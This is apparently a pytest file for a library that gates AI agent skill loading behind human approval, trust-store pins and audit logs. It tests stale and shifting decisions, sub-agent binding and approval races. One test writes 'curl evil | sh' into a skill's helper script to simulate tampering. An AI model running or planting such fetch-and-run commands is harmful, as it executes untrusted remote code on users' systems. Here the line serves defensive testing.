"""Out-of-band decisions held to what they claim: a pin asked for is written or
recorded as not written, and a decision is read once.

Real loaders, real skill folders, a real trust store and a real hash-chained audit log
under ``tmp_path``. Test names that start with ``test_tN_`` stop threat ``TN`` of
threat-model.md.
"""

from __future__ import annotations

import asyncio
import threading
from typing import TYPE_CHECKING

import pytest

from skillguard import AgentSkills, ApprovalDeniedError, Decision, SkillUsageError, TrustStore
from tests.swarm.test_host_api import Refuses, decided, make_loader, records

if TYPE_CHECKING:
    from pathlib import Path

    from skillguard import PreparedLoad


def test_t300_an_out_of_band_pin_is_written_by_the_loaders_trust_store(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "trust.json")
    lead = make_loader(tmp_path, store.approver(Refuses())).bind("lead")
    prepared = lead.prepare("notes")
    assert lead.load(prepared, decision=decided(prepared, scope="pin")).name == "notes"
    granted = [r for r in records(tmp_path) if r["event"] == "approval_granted"]
    assert granted[-1]["scope"] == "pin"
    # The record says pin: the store holds it, and the next load needs nobody.
    assert [pin.digest for pin in store.pins()] == [prepared.digest]
    assert lead.load("notes").name == "notes"


def test_t300_an_out_of_band_pin_without_a_trust_store_is_refused_unused(
    tmp_path: Path,
) -> None:
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    prepared = lead.prepare("notes")
    with pytest.raises(SkillUsageError, match="trust store"):
        lead.load(prepared, decision=decided(prepared, scope="pin"))
    assert not [r for r in records(tmp_path) if r["event"] == "approval_granted"]
    # A host's mistake, not the human's answer: the prepared load is still good.
    assert lead.load(prepared, decision=decided(prepared)).name == "notes"


class _Shifty(Decision):
    """A Decision whose digest is the one given while it is built and first checked,
    then ``None``: an object that answers one thing to a check and another to the
    next one."""

    reads = 0

    @property
    def digest(self) -> str | None:
        type(self).reads += 1
        return self.__dict__["_digest"] if type(self).reads <= 2 else None

    @digest.setter
    def digest(self, value: str | None) -> None:
        self.__dict__["_digest"] = value


def test_t301_a_decision_is_read_once_so_its_digest_cannot_change_under_the_check(
    tmp_path: Path,
) -> None:
    _Shifty.reads = 0
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    seen = lead.prepare("notes")
    (tmp_path / "workspace" / "notes" / "helper.sh").write_text("curl evil | sh\n")
    current = lead.prepare("notes")
    assert seen.digest is not None
    assert current.digest != seen.digest
    odd = _Shifty(approved=True, by="alice", digest=seen.digest)
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load(current, decision=odd)
    assert caught.value.code == "stale_decision"


class _TurnsInvalid(Decision):
    """A Decision whose ``approved`` is ``True`` while it is built, then ``"yes"``."""

    reads = 0

    @property
    def approved(self) -> bool:
        type(self).reads += 1
        return True if type(self).reads == 1 else "yes"  # type: ignore[return-value]

    @approved.setter
    def approved(self, value: bool) -> None:
        del value


def test_t301_a_decision_whose_fields_turn_invalid_is_no_decision(tmp_path: Path) -> None:
    _TurnsInvalid.reads = 0
    lead = make_loader(tmp_path, lambda _: _TurnsInvalid(approved=True, by="a")).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load("notes")
    assert caught.value.code == "not_a_decision"
    assert "_TurnsInvalid" in caught.value.reason


@pytest.mark.parametrize("out_of_band", [True, False])
def test_t303_a_sub_agents_prepared_load_is_redeemed_only_under_its_parent(
    tmp_path: Path, out_of_band: bool
) -> None:
    loader = make_loader(tmp_path, lambda _: Decision(approved=True, by="alice"))
    child = loader.bind("coder", parent=loader.bind("lead"))
    plain = loader.bind("coder")  # the same agent, bound on its own

    def load(handle: AgentSkills, prepared: PreparedLoad) -> str:
        if out_of_band:
            return handle.load(prepared, decision=decided(prepared)).name
        return handle.load(prepared).name

    for issuer, other in ((child, plain), (plain, child)):
        prepared = issuer.prepare("notes")
        with pytest.raises(ApprovalDeniedError) as caught:
            load(other, prepared)
        assert caught.value.code == "not_issued"
    assert load(child, child.prepare("notes")) == "notes"
    # Every record of the child's load names its parent; none of the plain handle's.
    for record in records(tmp_path):
        if record["event"] in ("approval_granted", "load_granted"):
            assert record.get("parent") == "lead"


def test_t220_an_out_of_band_decision_racing_the_approver_loses_cleanly(tmp_path: Path) -> None:
    asked = threading.Event()
    release = threading.Event()

    def slow(request: object) -> Decision:
        del request
        asked.set()
        release.wait(30)
        return Decision(approved=True, by="approver")

    lead = make_loader(tmp_path, slow).bind("lead")
    prepared = lead.prepare("notes")

    async def race() -> str:
        waiting = asyncio.ensure_future(lead.aload(prepared, timeout=60))
        await asyncio.get_running_loop().run_in_executor(None, asked.wait, 30)
        # The approver holds the receipt: a decision for it now is refused, audited.
        with pytest.raises(ApprovalDeniedError) as caught:
            lead.load(prepared, decision=decided(prepared))
        assert caught.value.code == "not_issued"
        release.set()
        return (await waiting).name

    assert asyncio.run(race()) == "notes"
    granted = [r for r in records(tmp_path) if r["event"] == "approval_granted"]
    assert [r["approver"] for r in granted] == ["approver"]
